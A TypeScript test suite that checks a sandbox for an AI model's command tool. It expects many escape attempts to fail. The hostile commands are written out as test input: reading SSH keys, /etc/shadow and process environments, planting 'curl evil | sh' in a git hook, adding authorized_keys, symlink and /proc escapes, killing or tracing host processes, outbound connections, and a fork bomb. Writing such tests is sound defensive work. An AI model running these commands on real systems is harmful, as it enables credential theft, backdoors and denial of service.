import { spawn } from "node:child_process";
import { randomUUID } from "node:crypto";
import { existsSync, lstatSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type EscapeTree, makeEscapeTree, processesWith } from "./__fixtures__/escape-tree.ts";
import { detectSandbox } from "./availability.ts";
import { detectProcessLimit } from "./process-limit.ts";
import { type RunCommandTool, runCommandTool } from "./run-command-tool.ts";
import { Sandbox } from "./sandbox.ts";
import { SandboxError } from "./sandbox-error.ts";
import { DEEP_TESTS } from "../../../test/support/property-runs.ts";

// Secrets a user's environment holds; none may reach a command.
const SECRET_ENV = {
  ANTHROPIC_API_KEY: `sk-ant-${randomUUID()}`,
  OPENAI_API_KEY: `sk-${randomUUID()}`,
  DATABASE_URL: `postgres://app:${randomUUID()}@db.example/app`,
  GITHUB_TOKEN: `ghp_${randomUUID()}`,
};

/**
 * The process bound of the fork-bomb test: small, so the bomb is quick and light on the machine;
 * smaller on the quick run, whose shorter timeout the bomb still spends mostly against the bound.
 */
const BOMB_BOUND = DEEP_TESTS ? 200 : 64;
const BOMB_TIMEOUT_MS = DEEP_TESTS ? 2000 : 1000;
// Decided before the tests are collected; the none case is a pod check warning, tested elsewhere.
const BOUND_HERE = await boundHere();

async function boundHere(): Promise<boolean> {
  const found = await detectSandbox();
  if (!found.available) return false;
  const limit = detectProcessLimit({ bwrapPath: found.bwrapPath });
  // A real fork bomb runs only where it is contained; elsewhere one visible line says why.
  if (limit.kind === "none") console.log(`REAL FORK BOMB TEST SKIPPED: no process bound here (${limit.reason})`);
  return limit.kind !== "none";
}

let tree: EscapeTree;
let tool: RunCommandTool;
let bwrapPath: string;
let before: Map<string, string>;

beforeAll(async () => {
  const found = await detectSandbox();
  if (!found.available) throw found.error;
  bwrapPath = found.bwrapPath;
  tree = makeEscapeTree();
  const env = { PATH: process.env["PATH"], LANG: "C.UTF-8", HOME: tree.home, ...SECRET_ENV };
  tool = runCommandTool(new Sandbox(tree.scope, { bwrapPath, env, cwd: tree.ws }));
  before = tree.snapshot();
});
afterAll(() => tree?.cleanup());

const run = async (command: string, timeout_ms?: number): Promise<string> =>
  String(await tool.execute(timeout_ms === undefined ? { command } : { command, timeout_ms }));

/** Every attempt of the suite: no secret in what the model reads, nothing outside the workspace changed. */
function expectNothingLeakedOrChanged(output: string): void {
  for (const secret of [...tree.secrets, ...Object.values(SECRET_ENV)]) expect(output).not.toContain(secret);
  expect(tree.snapshot()).toEqual(before);
}

describe("reads outside the scope fail", () => {
  test("home_ssh_key_etc_shadow_denied_files_and_beyond_a_non_recursive_rule_cannot_be_read", async () => {
    const output = await run(
      [
        `cat ${tree.home}/.ssh/id_rsa`,
        "cat ~/.ssh/id_rsa",
        "cat /etc/shadow",
        "cat denied.txt",
        "cat secret/key.txt",
        "ls secret",
        `cat ${tree.flat}/sub/deep.txt`,
        `cat ${tree.outside}/file.txt`,
        `ls ${tree.root}`,
        "ls /root /home",
        // Controls: what the scope grants is there.
        `cat ${tree.data}/info.txt ${tree.flat}/top.txt`,
      ].join("; "),
    );
    expect(output).toContain("readable data\ntop of flat\n");
    expect(output).toContain("cat: /etc/shadow: Permission denied");
    expect(output).toContain("cat: denied.txt: Permission denied");
    expect(output).toContain(`cat: ${tree.home}/.ssh/id_rsa: No such file or directory`);
    expectNothingLeakedOrChanged(output);
  });
});

describe("writes outside the writable targets fail", () => {
  test("outside_the_scope_into_a_read_only_target_into_git_hooks_and_over_denied_files_nothing_changes", async () => {
    const output = await run(
      [
        `echo x > ${tree.outside}/new.txt`,
        `echo x >> ${tree.outside}/file.txt`,
        `echo x > ${tree.data}/new.txt`,
        `echo x >> ${tree.data}/info.txt`,
        `rm -rf ${tree.data}`,
        `echo x > ${tree.flat}/new.txt`,
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "chmod +x .git/hooks/pre-commit",
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "rm -rf .git",
        "mv .git moved-git",
        "echo x > denied.txt",
        "rm -f denied.txt",
        "mv secret stolen",
        "echo x > /etc/passwd",
        `mkdir -p ${tree.home}/.ssh && echo x > ${tree.home}/.ssh/authorized_keys`,
        "echo inside > made-inside.txt",
      ].join("; "),
    );
    expect(output).toMatch(/Read-only file system/);
    // The home directory the command saw was an empty one of its own; the real one is untouched.
    expect(existsSync(join(tree.home, ".ssh", "authorized_keys"))).toBe(false);
    expect(existsSync(join(tree.outside, "new.txt"))).toBe(false);
    expect(readFileSync(join(tree.ws, "made-inside.txt"), "utf8")).toBe("inside\n");
    expectNothingLeakedOrChanged(output);
  });

  test("symlinks_and_hard_links_made_inside_reach_nothing_outside", async () => {
    const output = await run(
      [
        `ln -s ${tree.home}/.ssh/id_rsa key-link && cat key-link`,
        "ln -s /etc/shadow shadow-link && cat shadow-link",
        `ln -s ${tree.outside} outside-link && echo x > outside-link/planted.txt; cat outside-link/file.txt`,
        "ln -s secret secret-link && cat secret-link/key.txt",
        "ln denied.txt denied-hard && cat denied-hard",
        `ln ${tree.data}/info.txt data-hard && echo x >> data-hard`,
        `ln ${tree.outside}/file.txt outside-hard`,
        "ln /etc/shadow shadow-hard",
        `ln -s /proc/1/root root-link && cat root-link${tree.home}/.ssh/id_rsa`,
      ].join("; "),
    );
    expect(existsSync(join(tree.outside, "planted.txt"))).toBe(false);
    // The links the command made stay in the workspace as links; what they point at is unchanged.
    expect(lstatSync(join(tree.ws, "key-link")).isSymbolicLink()).toBe(true);
    expect(existsSync(join(tree.ws, "denied-hard"))).toBe(false);
    expect(existsSync(join(tree.ws, "data-hard"))).toBe(false);
    expectNothingLeakedOrChanged(output);
  });
});

describe("processes and the kernel", () => {
  test("proc_1_root_and_proc_self_cwd_show_only_the_sandbox_and_proc_sys_is_read_only", async () => {
    const output = await run(
      [
        "ls /proc/1/root/",
        `cat /proc/1/root${tree.home}/.ssh/id_rsa`,
        `cat /proc/1/root${tree.outside}/file.txt`,
        "cat /proc/self/cwd/denied.txt",
        `cat /proc/self/cwd/../outside/file.txt`,
        "ls /proc/self/cwd/..",
        // Kernel settings are the whole machine's; writing back the current value changes nothing either way.
        "cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness",
        "cat /proc/1/environ | tr '\\0' '\\n'",
        "cat /proc/*/environ | tr '\\0' '\\n'",
        "ls /proc | grep -c '^[0-9]'",
      ].join("; "),
    );
    expect(output).not.toContain(" home\n");
    expect(output).toContain("/proc/sys/vm/swappiness: Read-only file system");
    expectNothingLeakedOrChanged(output);
  });

  test("ptrace_and_signals_cannot_reach_a_process_outside", async () => {
    const victim = spawn("sleep", ["600"], { stdio: "ignore" });
    try {
      const pid = victim.pid!;
      const output = await run(
        [
          `kill -STOP ${pid}`,
          `kill -KILL ${pid}`,
          `kill -TERM -1`,
          `strace -p ${pid} -o /dev/null & sleep 0.2; kill %1`,
          `gdb -batch -p ${pid} -ex 'call (int)kill(${pid}, 9)' 2>&1 | tail -2`,
          `perl -e 'require "syscall.ph"; print syscall(101, 16, ${pid}, 0, 0), " $!\\n"'`,
        ].join("; "),
      );
      // Checked from outside: the process runs on, stopped by nobody, traced by nobody.
      const status = readFileSync(`/proc/${pid}/status`, "utf8");
      expect(status).toMatch(/^State:\s+S/m);
      expect(status).toMatch(/^TracerPid:\s+0$/m);
      expect(victim.exitCode).toBeNull();
      expectNothingLeakedOrChanged(output);
    } finally {
      victim.kill("SIGKILL");
    }
  });

  test("the_network_outside_is_unreachable_even_on_loopback", async () => {
    let connections = 0;
    const server: Server = createServer((socket) => {
      connections++;
      socket.end("HTTP/1.0 200 OK\r\n\r\nSERVER-REACHED");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as { port: number };
      const output = await run(
        [
          `curl -sS --max-time 5 http://127.0.0.1:${port}/`,
          `(exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected && cat <&3)`,
          "curl -sS --max-time 5 http://example.com/",
          "cat /etc/hosts >/dev/null; ls /sys/class/net 2>&1; cat /proc/net/dev | tail -n +3 | cut -d: -f1",
        ].join("; "),
      );
      expect(output).not.toContain("SERVER-REACHED");
      expect(output).not.toContain("connected");
      expect(connections).toBe(0);
      expectNothingLeakedOrChanged(output);
    } finally {
      server.close();
    }
  });

  test("environment_dumps_show_no_secret", async () => {
    const output = await run("env; set; cat /proc/self/environ; cat /proc/1/environ; git config --list");
    expect(output).toContain(`HOME=${tree.ws}`);
    expect(output).not.toMatch(/API_KEY|DATABASE_URL|TOKEN/);
    expectNothingLeakedOrChanged(output);
  });
});

describe("runaway commands are killed with their whole tree", () => {
  test("a_fork_bomb_is_killed_at_its_timeout_and_nothing_is_left_running", async () => {
    const marker = `bomb-${randomUUID()}`;
    // The copies multiply until there are 300 of them (an unbounded bomb would fill this machine's
    // whole process table for the second it runs, and other tests' spawns would fail meanwhile);
    // the first shell waits, so only the timeout ends it.
    const bounded = `[ "$(ls /proc | grep -c '^[0-9]')" -lt 300 ] || return`;
    const output = await run(`: ${marker}; bomb() { ${bounded}; bomb | bomb & }; bomb; sleep 600`, 1000);
    expect(output.split("\n")[0]).toBe(
      "killed: still running after 1000 ms (its timeout); the command and every process it started were stopped",
    );
    expect(processesWith(marker)).toEqual([]);
    expectNothingLeakedOrChanged(output);
  });

  // Where this machine bounds a command's processes (a pids cgroup as root, RLIMIT_NPROC in the
  // sandbox's user namespace otherwise), a real fork bomb is contained, not only killed.
  const bounded = () => new Sandbox(tree.scope, { bwrapPath, cwd: tree.ws, maxProcesses: BOMB_BOUND });
  test.runIf(BOUND_HERE)("a_real_fork_bomb_stays_under_the_process_bound_is_killed_and_true_still_runs", async () => {
    const sandbox = bounded();
    const bombTool = runCommandTool(sandbox);
    // Counted from outside: every process whose command line carries the marker (the sandbox's
    // bash and its copies, and bwrap itself, which is outside the bound).
    const watch = (marker: string, stop: AbortController) => {
      let most = 0;
      const timer = setInterval(() => {
        const now = processesWith(marker).length;
        most = Math.max(most, now);
        // The test's own safety net: a bound that does not hold is stopped at once.
        if (now > 4 * BOMB_BOUND) stop.abort();
      }, 10);
      return { most: () => most, stop: () => clearInterval(timer) };
    };
    const attempt = async (command: string, marker: string) => {
      const stop = new AbortController();
      const seen = watch(marker, stop);
      try {
        const output = String(
          await bombTool.execute({ command, timeout_ms: BOMB_TIMEOUT_MS }, { signal: stop.signal }),
        );
        return { output, most: seen.most(), safetyNet: stop.signal.aborted };
      } finally {
        seen.stop();
      }
    };
    // First a bomb that stops by itself at 2,000 copies: the bound must hold before a real one runs.
    const first = `bounded-${randomUUID()}`;
    const proof = await attempt(
      `: ${first}; bomb() { [ "$(ls /proc | grep -c '^[0-9]')" -lt 2000 ] || return; bomb | bomb & }; bomb; sleep 600`,
      first,
    );
    expect(proof.safetyNet).toBe(false);
    expect(proof.most).toBeLessThanOrEqual(BOMB_BOUND + 1);
    expect(processesWith(first)).toEqual([]);

    const marker = `bomb-${randomUUID()}`;
    const real = await attempt(`: ${marker}; :(){ :|:& };:; sleep 600`, marker);
    expect(real.safetyNet).toBe(false);
    expect(real.most).toBeLessThanOrEqual(BOMB_BOUND + 1);
    expect(real.output.split("\n")[0]).toBe(
      `killed: still running after ${BOMB_TIMEOUT_MS} ms (its timeout); the command and every process it started were stopped`,
    );
    expect(processesWith(marker)).toEqual([]);
    expect(String(await bombTool.execute({ command: "true" }))).toMatch(/^exit code: 0\n/);
    expectNothingLeakedOrChanged(real.output);
  });

  test("a_process_that_ignores_sigterm_and_leaves_the_session_is_killed_and_nothing_is_left_running", async () => {
    const marker = `stubborn-${randomUUID()}`;
    const output = await run(
      `trap '' TERM HUP INT; setsid bash -c 'trap "" TERM; sleep 600; : ${marker}' & nohup bash -c "sleep 600; : ${marker}" >/dev/null 2>&1 & echo started; sleep 600; : ${marker}`,
      1000,
    );
    expect(output).toMatch(/^killed: still running after 1000 ms/);
    expect(output).toContain("started");
    expect(processesWith(marker)).toEqual([]);
  });

  test("background_processes_end_with_the_command", async () => {
    const marker = `background-${randomUUID()}`;
    const output = await run(`(trap '' TERM; exec -a ${marker} sleep 600) & echo left`);
    expect(output).toMatch(/^exit code: 0\nstdout:\nleft\n/);
    expect(processesWith(marker)).toEqual([]);
  });

  test("an_aborted_turn_kills_the_command_and_everything_it_started", async () => {
    const marker = `aborted-${randomUUID()}`;
    const started = join(tree.ws, `${marker}.started`);
    const controller = new AbortController();
    const running = tool.execute({ command: `(exec -a ${marker} sleep 600) & touch ${started}; wait` }, {
      signal: controller.signal,
    } as never);
    while (!existsSync(started)) await new Promise((resolve) => setTimeout(resolve, 20));
    expect(processesWith(marker)).not.toEqual([]);
    controller.abort();
    const error: unknown = await running.catch((e: unknown) => e);
    expect(SandboxError.is(error) && error.code).toBe("ABORTED");
    expect(processesWith(marker)).toEqual([]);
  });

  test("100_mb_of_output_is_capped_visibly_with_flat_memory", async () => {
    const rssBefore = process.memoryUsage().rss;
    let peak = rssBefore;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
    const output = await run("head -c 104857600 /dev/zero | tr '\\0' a; echo; echo the-end; echo err >&2");
    clearInterval(sampler);
    // Not printed on failure: it is what the model reads, 32 KiB of "a".
    const kept = output.length;
    expect(kept).toBeLessThan(40_000);
    const note = / bytes of stdout left out here \((\d+) bytes in all\)/.exec(output);
    expect(note?.[1]).toBe(String(100 * 1024 * 1024 + "\nthe-end\n".length));
    expect(output.endsWith("the-end\nstderr:\nerr\n")).toBe(true);
    // 100 MB went through; the process grew by far less (pipe chunks are dropped as they come; keeping
    // the output would take at least 100 MB, its string twice that).
    expect(peak - rssBefore).toBeLessThan(64 * 1024 * 1024);
  });
});

describe("what must work", () => {
  test("build_and_test_commands_run_in_the_writable_target", async () => {
    writeFileSync(join(tree.ws, "hello.c"), '#include <stdio.h>\nint main(void){puts("built and ran");return 0;}\n');
    writeFileSync(join(tree.ws, "Makefile"), "hello: hello.c\n\tcc -o hello hello.c\ntest: hello\n\t./hello\n");
    writeFileSync(join(tree.ws, "check.test.mjs"), 'import { test } from "node:test";\ntest("ok", () => {});\n');
    const output = await run("make -s test && node --test check.test.mjs 2>&1 | grep -E '^# (pass|fail)'");
    expect(output).toMatch(/^exit code: 0\n/);
    expect(output).toContain("built and ran\n");
    expect(output).toContain("# pass 1\n# fail 0\n");
    expect(existsSync(join(tree.ws, "hello"))).toBe(true);
    expectNothingLeakedOrChanged(output);
  });

  test("git_status_and_git_diff_work_in_a_repository", async () => {
    writeFileSync(join(tree.ws, "src", "main.txt"), "line one\nline two\n");
    const output = await run("git status --short src && git diff src");
    expect(output).toMatch(/^exit code: 0\n/);
    expect(output).toContain(" M src/main.txt\n");
    expect(output).toContain("+line two\n");
    expectNothingLeakedOrChanged(output);
  });

  test("with_network_allowed_the_loopback_server_is_reached", async () => {
    const server = createServer((socket) => socket.end("HTTP/1.0 200 OK\r\n\r\nSERVER-REACHED"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as { port: number };
      const networked = runCommandTool(new Sandbox(tree.scope, { bwrapPath, network: true, cwd: tree.ws }));
      const output = String(await networked.execute({ command: `curl -sS --max-time 5 http://127.0.0.1:${port}/` }));
      expect(output).toContain("SERVER-REACHED");
    } finally {
      server.close();
    }
  });
});
